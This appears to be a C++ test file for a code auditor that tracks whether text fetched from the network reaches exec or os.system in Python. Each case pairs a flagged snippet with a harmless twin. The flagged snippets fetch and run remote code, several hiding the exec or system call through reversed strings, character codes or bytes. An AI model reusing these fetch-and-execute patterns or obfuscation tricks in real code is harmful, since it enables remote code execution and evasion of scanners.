#include "trust/audit/engine/test_programs.h"

// Values that go through texts, and texts that say what is called.
namespace pilothouse::audit::test {
namespace {

const Program kPrograms[] = {
    {"Plus", R"py(
import requests
exec("x = " + requests.get("https://a.example").text + "\n")  # to # from)py",
     R"py(
import requests
exec("x = " + str(len(requests.get("https://a.example").text)) + "\n"))py"},
    {"PlusAssigned", R"py(
import requests
code = "import os\n"
code += requests.get("https://a.example").text  # from
exec(code)  # to)py",
     R"py(
import requests
code = "import os\n"
code += str(len(requests.get("https://a.example").text))
exec(code))py"},
    {"Percent", R"py(
import requests
page = requests.get("https://a.example").text  # from
exec("x = %s" % page)  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
exec("x = %d" % len(page)))py"},
    {"PercentTuple", R"py(
import requests
page = requests.get("https://a.example").text  # from
exec("%s = %s" % ("x", page))  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
exec("%s = %s" % ("x", len(page))))py"},
    {"PercentDict", R"py(
import requests
page = requests.get("https://a.example").text  # from
exec("x = %(page)s" % {"page": page})  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
exec("x = %(page)s" % {"page": len(page)}))py"},
    {"Format", R"py(
import requests
page = requests.get("https://a.example").text  # from
exec("x = {}".format(page))  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
exec("x = {}".format(len(page))))py"},
    {"FormatNamed", R"py(
import requests
page = requests.get("https://a.example").text  # from
exec("x = {page}".format(page=page))  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
exec("x = {page}".format(page=len(page))))py"},
    {"FString", R"py(
import requests
page = requests.get("https://a.example").text  # from
exec(f"x = {page!r}")  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
exec(f"x = {len(page)!r}"))py"},
    {"FStringNested", R"py(
import requests
page = requests.get("https://a.example").text  # from
exec(f"x = {f'{page}'}")  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
exec(f"x = {f'{len(page)}'}"))py"},
    {"Join", R"py(
import requests
page = requests.get("https://a.example").text  # from
exec("\n".join(["x = 1", page]))  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
exec("\n".join(["x = 1", str(len(page))])))py"},
    {"Slices", R"py(
import requests
page = requests.get("https://a.example").text  # from
exec(page[::-1][4:])  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
exec("abc"[::-1]))py"},
    {"Methods", R"py(
import requests
page = requests.get("https://a.example").text  # from
exec(page.strip().replace("\r", "").split("---")[1])  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
exec("x = 1".strip().replace("\r", "\n")))py"},
    {"Number", R"py(
import requests
exec(str(requests.get("https://a.example").text))  # to # from)py",
     R"py(
import requests
exec("x = " + str(int(requests.get("https://a.example").text))))py"},
    {"NameOfPieces", R"py(
import requests
page = requests.get("https://a.example").text  # from
getattr(__import__("buil" + "tins"), "%s%s" % ("ex", "ec"))(page)  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
getattr(__import__("buil" + "tins"), "%s%s" % ("le", "n"))(page))py"},
    {"NameOfNumbers", R"py(
import requests
page = requests.get("https://a.example").text  # from
getattr(__builtins__, "".join(map(chr, [101, 120, 101, 99])))(page)  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
getattr(__builtins__, "".join(map(chr, [108, 101, 110])))(page))py"},
    {"NameOfAComprehension", R"py(
import requests
page = requests.get("https://a.example").text  # from
getattr(__builtins__, "".join([chr(c - 1) for c in [102, 121, 102, 100]]))(page)  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
getattr(__builtins__, "".join([chr(c - 1) for c in [109, 102, 111]]))(page))py"},
    {"NameBackwards", R"py(
import requests
page = requests.get("https://a.example").text  # from
__import__("so"[::-1]).__dict__["metsys"[::-1]](page)  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
__import__("so"[::-1]).__dict__["htapsf"[::-1]](page))py"},
    {"NameByFormat", R"py(
import requests
page = requests.get("https://a.example").text  # from
getattr(__import__("{1}{0}".format("s", "o")), f"{'sys'}tem")(page)  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
getattr(__import__("{1}{0}".format("s", "o")), f"{'fs'}path")(page))py"},
    {"NameOfBytes", R"py(
import requests
page = requests.get("https://a.example").text  # from
getattr(__builtins__, bytes([101, 120, 101, 99]).decode())(page)  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
getattr(__builtins__, bytes([108, 101, 110]).decode())(page))py"},
    {"NameOfALoop", R"py(
import requests
page = requests.get("https://a.example").text  # from
name = ""
for c in "fyfd":
    name += chr(ord(c) - 1)
getattr(__builtins__, name)(page)  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
name = ""
for c in "mfo":
    name += chr(ord(c) - 1)
getattr(__builtins__, name)(page))py"},
    {"Bytearray", R"py(
import requests
data = bytearray()
data.extend(requests.get("https://a.example").content)  # from
exec(bytes(data))  # to)py",
     R"py(
import requests
data = bytearray()
data.extend(b"x = 1")
exec(bytes(data)))py"},
    {"StringIO", R"py(
import io, requests
out = io.StringIO()
out.write(requests.get("https://a.example").text)  # from
exec(out.getvalue())  # to)py",
     R"py(
import io, requests
out = io.StringIO()
out.write("x = 1")
requests.get("https://a.example")
exec(out.getvalue()))py"},
};

INSTANTIATE_TEST_SUITE_P(Texts, Twins, testing::ValuesIn(kPrograms), name_of);

}  // namespace
}  // namespace pilothouse::audit::test
